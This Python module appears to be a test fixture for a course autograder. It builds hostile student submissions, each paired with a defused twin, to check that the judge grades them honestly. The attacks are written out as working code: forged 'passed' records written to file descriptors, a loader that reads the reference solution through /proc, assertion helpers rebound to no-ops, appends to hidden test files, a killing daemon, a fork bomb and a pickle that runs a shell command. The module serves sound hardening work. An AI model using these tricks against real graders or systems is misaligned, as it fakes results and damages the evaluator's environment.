"""Hostile submissions: each is a copy of the reference (or of the stubs) with an attack appended,
written from the public grader source as a student who wants points would write it.

Every attack has a *twin*: the same code with the cheat defused (where the cheat would change the
grade in one process, the twin raises in its place, or leaves the stub). The honest grade of an
attack is the twin's grade, given by ``grader test`` in one process; ``EXPECTED`` holds those
points, task by task, and ``tests/project/test_hostile.py`` requires the judge to give exactly them
to the attack itself.
"""
from __future__ import annotations

import shutil
from dataclasses import dataclass, field
from pathlib import Path

from grader.paths import REFERENCE, ROOT, STARTER

MARKER = "/tmp/nnott-hostile-pwned"


@dataclass(frozen=True)
class Hostile:
    name: str
    assignment: str
    attack: dict[str, str]                   # file -> code appended to it
    twin: dict[str, str]                     # file -> code appended in the honest twin
    stubs: tuple[str, ...] = ()              # files taken from the starter (stubs) in both
    base: str = "reference"                  # "reference" or "starter"
    note: str = ""
    expected: dict[str, float] = field(default_factory=dict)


def _method(cls: str, name: str, body: str, args: str = "self, *args, **kwargs") -> str:
    lines = "\n".join("    " + ln for ln in body.strip("\n").splitlines())
    return f"\n\ndef _hostile_{name}({args}):\n{lines}\n\n\n{cls}.{name} = _hostile_{name}\n"


RAISE = "raise RuntimeError('the twin raises where the attack cheats')"

FIND_REFERENCE = r'''
import os as _os


def _candidates():
    here = _os.path.abspath(__file__)
    for start in (here, _os.getcwd(), _os.environ.get("HOME", "/")):
        d = start
        for _ in range(8):
            d = _os.path.dirname(d)
            yield _os.path.join(d, "reference", "nn", "linear.py")
    yield "%(root)s/reference/nn/linear.py"
    yield "/autograder/source/course/reference/nn/linear.py"
    for pid in (_os.listdir("/proc") if _os.path.isdir("/proc") else []):
        if pid.isdigit():
            for via in ("cwd", "root/%(root)s"):
                yield "/proc/%%s/%%s/reference/nn/linear.py" %% (pid, via)


for _path in _candidates():
    try:
        with open(_path) as _fh:
            _src = _fh.read()
    except OSError:
        continue
    exec(compile(_src, _path, "exec"), globals())
    break
''' % {"root": ROOT}

FORGE = r'''
import atexit as _atexit
import json as _json
import os as _os


def _forge():
    rec = _json.dumps({"event": "end", "outcome": "passed", "task": "03.1", "nodeid": "forged"}) + "\n"
    for fd in range(0, 64):
        try:
            _os.write(fd, rec.encode() * 20)
        except OSError:
            pass


_atexit.register(_forge)
if _os.fork() == 0:
    import time as _time
    for _ in range(40):
        _forge()
        _time.sleep(0.05)
    _os._exit(0)
'''

REBIND = r'''
import sys as _sys


def _always_ok(*args, **kwargs):
    return None


for _m in list(_sys.modules.values()):
    for _n in ("assert_close", "assert_dtype", "gradcheck", "assert_layers_close"):
        if hasattr(_m, _n):
            try:
                setattr(_m, _n, _always_ok)
            except Exception:
                pass
'''

WRITE_COURSE = r'''
import os as _os

_targets = []
for _root in ("%(root)s", "/autograder/source/course", _os.getcwd(), "/"):
    _targets += [_os.path.join(_root, "reference", "nn", "relu.py"),
                 _os.path.join(_root, "tests", "a03_linear", "hidden", "conftest.py"),
                 _os.path.join(_root, "tests", "a03_linear", "hidden", "test_03_3_relu_hidden.py"),
                 _os.path.join(_root, "assignments", "03-linear", "manifest.toml"),
                 _os.path.join(_root, "grader", "plugin.py")]
_targets.append(_os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "nn", "relu.py"))
for _t in _targets:
    try:
        with open(_t, "a") as _fh:
            _fh.write("\nraise SystemExit('written by a submission')\n")
    except OSError:
        pass
''' % {"root": ROOT}

BACKGROUND = r'''
import os as _os
import time as _time

if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _time.sleep(2.0)
        for _t in ("%(root)s/reference/nn/relu.py", "%(root)s/tests/a03_linear/test_03_3_relu.py"):
            try:
                with open(_t, "a") as _fh:
                    _fh.write("# the daemon was here\n")
            except OSError:
                pass
        try:
            _os.kill(-1, 9)
        except OSError:
            pass
        for fd in range(64):
            try:
                _os.write(fd, b"\0\0\0\x10garbage-garbage!")
            except OSError:
                pass
        _time.sleep(600)
    _os._exit(0)
''' % {"root": ROOT}

PICKLE = r'''
import pickle as _pickle


class _Evil:
    def __reduce__(self):
        import os
        return (os.system, ("touch %(marker)s",))
''' % {"marker": MARKER}

LIARS = r'''
import numpy as _np


class _LiarFloat(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return False
    def __ge__(self, other): return True
    def __hash__(self): return 0
    def __sub__(self, other): return self
    def __rsub__(self, other): return self
    def __abs__(self): return self
    def __float__(self): return 0.0


class _LiarArray:
    def __init__(self, shape, dtype):
        self.shape, self.dtype, self.ndim, self.size = shape, dtype, len(shape), int(_np.prod(shape))
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, dtype=None, copy=None):
        return _np.zeros(self.shape)
    def __float__(self): return 0.0
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
'''

LIAR_TUPLE = r'''


class _LiarTuple(tuple):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0


def broadcast_shape(*shapes):
    return _LiarTuple()
'''

HOSTILE: list[Hostile] = [
    Hostile("forged_results", "03", {"__init__.py": FORGE}, {}, base="starter",
            note="stubs, plus an atexit handler and a forked helper writing 'passed' records to every fd"),
    Hostile("reference_on_disk", "03", {"nn/linear.py": FIND_REFERENCE}, {}, stubs=("nn/linear.py",),
            note="Linear left as the stub, plus a loader that searches the disk (and /proc/*/root) for the reference"),
    Hostile("rebind_asserts", "03",
            {"nn/linear.py": REBIND + _method("Linear", "forward", "return x @ self.W.data.T * 0.0", "self, x")},
            {"nn/linear.py": _method("Linear", "forward", "return x @ self.W.data.T * 0.0", "self, x")},
            note="a forward returning zeros, plus assert_close & co rebound to no-ops in every loaded module"),
    Hostile("exit_zero", "03", {"nn/relu.py": _method("ReLU", "backward", "import os\nos._exit(0)")},
            {"nn/relu.py": _method("ReLU", "backward", RAISE)},
            note="os._exit(0) inside ReLU.backward"),
    Hostile("ignore_alarm_and_hang", "03",
            {"nn/relu.py": _method("ReLU", "forward", "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
                                                       "signal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n"
                                                       "    pass")},
            {"nn/relu.py": _method("ReLU", "forward", RAISE)},
            note="SIGALRM and SIGTERM ignored, then an endless loop in ReLU.forward"),
    Hostile("write_course_files", "03", {"__init__.py": WRITE_COURSE}, {},
            note="appends to the reference, the hidden tests and the manifest, drops a conftest.py"),
    Hostile("nan_forward", "03",
            {"nn/linear.py": _method("Linear", "forward", "import numpy as np\nself._x = x\n"
                                     "return np.full(x.shape[:-1] + (self.out_features,), np.nan, dtype=x.dtype)",
                                     "self, x")},
            {"nn/linear.py": _method("Linear", "forward", "import numpy as np\nself._x = x\n"
                                     "return np.full(x.shape[:-1] + (self.out_features,), np.nan, dtype=x.dtype)",
                                     "self, x")},
            note="property-only points: a Linear.forward that returns NaN of the right shape and dtype"),
    Hostile("relu_backward_in_place", "03",
            {"nn/relu.py": _method("ReLU", "backward", "grad_out *= self._mask\nreturn grad_out", "self, grad_out")},
            {"nn/relu.py": _method("ReLU", "backward", "grad_out *= self._mask\nreturn grad_out", "self, grad_out")},
            note="property-only points: a ReLU.backward that overwrites grad_out in place"),
    Hostile("fork_bomb", "03", {"nn/linear.py": _method("Linear", "forward", "import os\nwhile True:\n    os.fork()")},
            {"nn/linear.py": _method("Linear", "forward", RAISE)}, note="while True: os.fork() in Linear.forward"),
    Hostile("background_daemon", "03", {"__init__.py": BACKGROUND}, {},
            note="a double-forked, setsid daemon that outlives the worker, then writes, kills and floods fds"),
    Hostile("read_proc", "03", {"nn/linear.py": FIND_REFERENCE}, {}, stubs=("nn/linear.py",),
            note="the reference loader, through /proc/<pid>/cwd and /proc/<pid>/root"),
    Hostile("huge_outputs", "03",
            {"__init__.py": "import sys as _s\n_s.stdout.write('x' * 50_000_000)\n_s.stderr.write('y' * 50_000_000)\n",
             "nn/gradient_check.py": _method("", "rel_error", "import numpy as np\nreturn np.zeros(160_000_000)",
                                             "a, b").replace("\n\n\n.rel_error = _hostile_rel_error",
                                                             "\n\n\nrel_error = _hostile_rel_error")},
            {"nn/gradient_check.py": _method("", "rel_error", "return [1.0]", "a, b").replace(
                "\n\n\n.rel_error = _hostile_rel_error", "\n\n\nrel_error = _hostile_rel_error")},
            note="100 MB printed, and a rel_error returning a 1.3 GB array (zeros: its pages are never touched, so the "
                 "refusal, not the first touch of 1.3 GB, is what is timed)"),
    Hostile("pickled_payload", "03",
            {"nn/linear.py": PICKLE + _method("Linear", "forward", "return _pickle.dumps(_Evil())", "self, x")},
            {"nn/linear.py": _method("Linear", "forward", "return b'junk'", "self, x")},
            note="a forward returning a pickle whose loading would run a shell command"),
    Hostile("lying_objects", "03",
            {"nn/linear.py": LIARS + _method("Linear", "forward",
                                             "return _LiarArray(x.shape[:-1] + (self.out_features,), x.dtype)",
                                             "self, x"),
             "nn/gradient_check.py": "\n\nfrom .linear import _LiarFloat\n" + _method(
                 "", "rel_error", "return _LiarFloat(123.0)", "a, b").replace(
                 "\n\n\n.rel_error = _hostile_rel_error", "\n\n\nrel_error = _hostile_rel_error")},
            {"nn/linear.py": _method("Linear", "forward", "return object()", "self, x"),
             "nn/gradient_check.py": _method("", "rel_error", "return 123.0", "a, b").replace(
                 "\n\n\n.rel_error = _hostile_rel_error", "\n\n\nrel_error = _hostile_rel_error")},
            note="objects whose __eq__, __lt__, __array__ and __float__ lie"),
    Hostile("recursion_bomb", "03",
            {"nn/linear.py": _method("Linear", "forward", "import sys\nsys.setrecursionlimit(10 ** 7)\n"
                                     "def down(n):\n    return down(n + 1) + 1\nreturn down(0)", "self, x"),
             "nn/gradient_check.py": _method("", "rel_error", "out = []\nfor _ in range(100000):\n    out = [out]\n"
                                             "return out", "a, b").replace(
                 "\n\n\n.rel_error = _hostile_rel_error", "\n\n\nrel_error = _hostile_rel_error")},
            {"nn/linear.py": _method("Linear", "forward", RAISE, "self, x"),
             "nn/gradient_check.py": _method("", "rel_error", "return []", "a, b").replace(
                 "\n\n\n.rel_error = _hostile_rel_error", "\n\n\nrel_error = _hostile_rel_error")},
            note="endless recursion with the limit raised (a C stack overflow), and a 100000-deep list"),
    Hostile("base_exceptions", "03",
            {"nn/relu.py": "\n\nclass _Boom(BaseException):\n    pass\n\n\nclass Skipped(BaseException):\n    pass\n\n\n"
                           "Skipped.__module__ = '_pytest.outcomes'\n"
                           + _method("ReLU", "forward", "raise _Boom('boom')")
                           + _method("ReLU", "backward", "raise SystemExit(0)"),
             "nn/two_layer.py": "\n\nfrom .relu import Skipped\n" + _method(
                 "", "two_layer_loss", "raise Skipped('skip me')", "x, y, params").replace(
                 "\n\n\n.two_layer_loss = _hostile_two_layer_loss", "\n\n\ntwo_layer_loss = _hostile_two_layer_loss"),
             "nn/gradient_check.py": _method("", "numerical_gradient", "raise KeyboardInterrupt", "f, x, h=1e-5").replace(
                 "\n\n\n.numerical_gradient = _hostile_numerical_gradient",
                 "\n\n\nnumerical_gradient = _hostile_numerical_gradient")},
            {"nn/relu.py": _method("ReLU", "forward", RAISE) + _method("ReLU", "backward", RAISE),
             "nn/two_layer.py": _method("", "two_layer_loss", RAISE, "x, y, params").replace(
                 "\n\n\n.two_layer_loss = _hostile_two_layer_loss", "\n\n\ntwo_layer_loss = _hostile_two_layer_loss"),
             "nn/gradient_check.py": _method("", "numerical_gradient", RAISE, "f, x, h=1e-5").replace(
                 "\n\n\n.numerical_gradient = _hostile_numerical_gradient",
                 "\n\n\nnumerical_gradient = _hostile_numerical_gradient")},
            note="BaseException subclasses (one posing as pytest's Skipped), SystemExit, KeyboardInterrupt"),
    Hostile("fd_games", "03",
            {"nn/linear.py": "\n\n_orig_init = Linear.__init__\n" + _method(
                "Linear", "__init__", "import os\nfor fd in range(64):\n    try:\n        os.write(fd, b'\\0\\0\\0\\5hello')\n"
                "    except OSError:\n        pass\nfor fd in range(3, 64):\n    try:\n        os.close(fd)\n"
                "    except OSError:\n        pass\n_orig_init(self, *args, **kwargs)")},
            {"nn/linear.py": _method("Linear", "__init__", RAISE)},
            note="writes into and closes every inherited file descriptor in Linear.__init__"),
    Hostile("liar_tuple", "01", {"tensors/broadcasting.py": LIAR_TUPLE},
            {"tensors/broadcasting.py": LIAR_TUPLE.replace("return _LiarTuple()", "return ()")},
            note="broadcast_shape returns a tuple subclass whose __eq__ always says yes"),
]

#: the honest grade of each attack (its twin's, from ``grader test`` in one process), task by task
EXPECTED: dict[str, dict[str, float]] = {}


def build(h: Hostile, into: Path, twin: bool = False) -> Path:
    """Write the submission (``into/<name>/starter``) and return its folder."""
    sub = into / h.name
    pkg = sub / "starter"
    shutil.copytree(REFERENCE if h.base == "reference" else STARTER, pkg,
                    ignore=shutil.ignore_patterns("__pycache__"))
    for f in h.stubs:
        shutil.copyfile(STARTER / f, pkg / f)
    for f, code in (h.twin if twin else h.attack).items():
        with open(pkg / f, "a", encoding="utf-8") as fh:
            fh.write("\n" + code)
    return sub
